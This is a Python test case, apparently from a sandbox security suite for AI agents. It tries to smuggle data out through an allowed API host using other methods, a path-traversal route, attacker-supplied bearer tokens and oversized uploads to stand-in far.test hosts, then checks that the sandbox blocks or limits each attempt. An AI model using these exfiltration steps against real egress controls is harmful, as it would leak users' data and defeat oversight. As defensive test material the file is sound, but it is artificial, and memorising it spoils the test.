"""NT-28: Carry data out through a host that is allowed.

Claim: Methods and paths of a rule, the operator's credentials and limits of bytes hold for allowed hosts; what goes out is counted and recorded.
Technique: Uploads by other methods and paths, with the attacker's own credentials, and more bytes than the sandbox may send.
Source: Claude Files API 2025; AgentCore S3 C2 2026
Tiers: jail bounded
"""

LIMIT = 200_000
DRIVEN = True


def inside():
    own = "api.far.test:28443"
    ask = lambda method, path, *fields, body=b"": attack.status_of(attack.ask_tls("api.far.test", 28443, attack.request(method, path, own, *fields, body=body)))
    attack.say("uploads", {f"{method} {path}": ask(method, path, body=b"data") for method, path in (("PUT", "/v1/messages"), ("POST", "/v1/files"), ("POST", "/v1/messages/../files"), ("PATCH", "/v1/messages"))})
    attack.say("own credentials", ask("POST", "/v1/messages", "Authorization: Bearer attackers-own", "authorization: Bearer attackers-second", body=b"{}"))
    attack.say("bytes", [attack.reach("other.far.test", 25432, b"x" * 50_000, 2)[-12:] for _ in range(10)])


def outside(trial):
    value = trial.secret("provider", inject={"header": "Authorization", "value": "Bearer {}"})
    allow = [{"host": "api.far.test", "ports": [28443], "protocol": "tls", "methods": ["POST"], "paths": ["/v1/messages"], "secrets": ["provider"]}, "other.far.test:25432/tcp"]
    trial.sandbox(network={"allow": allow, "limits": {"bytes_up": LIMIT}})
    trial.run()
    trial.all_refused("uploads", ("403", "400"))
    trial.equal(trial.found["own credentials"], "200", "the request with credentials")
    trial.equal([one["path"] for one in trial.far.seen], ["/v1/messages"], "what arrived")
    sent = [field for name, field in trial.far.seen[0]["headers"] if name == "authorization"]
    trial.equal(sent, [f"Bearer {value}"], "the credentials that arrived")
    usage = trial.api.want(200, "GET", f"/v1/sandboxes/{trial.id}/network")["usage"]
    trial.check(usage["bytes_up"] <= LIMIT + 65536 and usage["limit_hit"], f"usage: {usage}")
